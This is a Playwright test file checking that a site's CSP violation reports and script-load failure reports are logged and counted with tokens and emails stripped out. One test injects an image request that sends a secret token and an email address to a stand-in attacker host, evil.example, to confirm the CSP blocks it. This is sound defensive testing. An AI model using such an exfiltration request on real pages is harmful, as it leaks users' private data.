import { expect, hydrated, test } from './fixtures/test.ts';

// Without `X-Forwarded-For`: the server shows its metrics only to requests that no proxy has forwarded.
test.use({ extraHTTPHeaders: {} });

test('a violation of the CSP is logged and counted without its query', async ({
  page,
  site,
  request,
  consoleProblems,
}) => {
  await page.goto('/politica-privacidad?token=s3cret');
  await hydrated(page);
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'https://evil.example/s3cret?visitor=ana@empresa.es';
  });
  // Other tests cause reports to this server, too.
  const line = () => /^.*img-src.*report from a browser.*$/m.exec(site.output())?.[0];
  await expect.poll(line).toBeTruthy();
  expect(JSON.parse(line()!)).toMatchObject({
    kind: 'csp',
    directive: 'img-src',
    blocked: 'https://evil.example',
    page: '/politica-privacidad',
  });
  expect(site.output()).not.toMatch(/s3cret|ana@empresa/);
  const metrics = await (await request.get('/metrics')).text();
  expect(metrics).toMatch(/^browser_reports_total\{kind="csp",directive="img-src"\} \d+$/m);
  consoleProblems.length = 0;
});

test('an application that does not start is reported, without the query', async ({
  page,
  site,
  consoleProblems,
}) => {
  const lines = () =>
    site.output().match(/^.*"part".*"page":"\/terminos-de-uso".*report from a browser.*$/gm) ?? [];
  const before = lines().length;
  await page.route('**/assets/application-*.js', (route) => route.abort());
  await page.goto('/terminos-de-uso?token=s3cret');
  // The page first reloads once without a report.
  await expect.poll(() => lines().length).toBe(before + 1);
  expect(JSON.parse(lines()[0]!)).toMatchObject({ kind: 'error', page: '/terminos-de-uso' });
  expect(site.output()).not.toContain('s3cret');
  consoleProblems.length = 0;
});
